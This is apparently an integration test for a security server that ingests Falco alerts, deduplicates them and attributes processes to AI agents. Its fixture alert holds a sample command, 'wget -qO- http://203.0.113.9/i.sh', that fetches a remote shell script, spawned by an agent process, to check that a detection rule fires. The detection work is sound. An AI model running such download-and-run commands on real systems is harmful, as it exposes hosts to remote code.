//! `POST /v1/falco`: Falco's alerts as its `http_output` (and falcosidekick's webhook)
//! post them, authenticated like OTLP, mapped to the contract's eBPF kinds and
//! attributed to the agent that spawned the process; a redelivery is stored once.

use std::time::Duration;

use serde_json::{Value, json};

use crate::common::*;

/// Falco's JSON output for an `execve` its rule flagged, as falcosidekick relays it.
fn alert(uuid: &str) -> Value {
    json!({
        "uuid": uuid,
        "hostname": "wks-0077",
        "output": "10:00:00.000000000: Notice Agent child process (user=erin command=wget -qO- http://203.0.113.9/i.sh parent=codex)",
        "priority": "Notice",
        "rule": "Agent child process",
        "source": "syscall",
        "tags": ["process", "ai_agent"],
        "time": "2026-01-15T10:00:00.000000000Z",
        "output_fields": {
            "evt.type": "execve",
            "proc.name": "wget",
            "proc.exepath": "/usr/bin/wget",
            "proc.cmdline": "wget -qO- http://203.0.113.9/i.sh",
            "proc.pid": 7001,
            "proc.ppid": 7000,
            "proc.pname": "codex",
            "user.name": "erin"
        }
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn falco_alerts_are_mapped_and_raise_the_agent_rule() {
    let server = TestServer::start().await;
    let post = async |token: Option<&str>, body: &Value| -> (u16, Value) {
        let mut request = reqwest::Client::new()
            .post(format!("http://{}/v1/falco", server.server.http_addr))
            .json(body);
        if let Some(token) = token {
            request = request.bearer_auth(token);
        }
        let response = request.send().await.unwrap();
        (response.status().as_u16(), response.json().await.unwrap_or(Value::Null))
    };
    let (status, body) = post(Some(TEST_PRODUCER_TOKEN), &alert("9d0c6a1e-1")).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["stored"], 1, "{body}");
    // falcosidekick retries: the same uuid is stored once.
    let (_, again) = post(Some(TEST_PRODUCER_TOKEN), &json!([alert("9d0c6a1e-1")])).await;
    assert_eq!(again["duplicates"], 1, "{again}");
    let (status, body) = post(Some(TEST_PRODUCER_TOKEN), &json!("not an alert")).await;
    assert_eq!(status, 400, "{body}");
    assert!(body["message"].as_str().unwrap().contains("Falco alert"), "{body}");

    let storage = server.storage();
    let rows = eventually(Duration::from_secs(30), "the Falco alert stored", async || {
        let rows = stored_rows(&storage).await;
        (rows.len() == 1).then_some(rows)
    })
    .await;
    let row = &rows[0];
    assert_eq!(row["event_name"], "process.start");
    assert_eq!(row["service_name"], "falco");
    assert_eq!(row["host_id"], "wks-0077");
    assert_eq!(row["transport"], "falco");
    assert_eq!(row["process_command_line"], "wget -qO- http://203.0.113.9/i.sh");
    assert_eq!(row["gen_ai_agent_id"], "codex/pid-7000");
    assert_eq!(row["user_name"], "erin");

    server.detections_idle().await;
    let alerts = server.alerts().await;
    assert!(
        alerts
            .iter()
            .any(|alert| alert["rule_id"] == "agent-spawned-network-tool" && alert["host_id"] == "wks-0077"),
        "{alerts:#?}"
    );
}
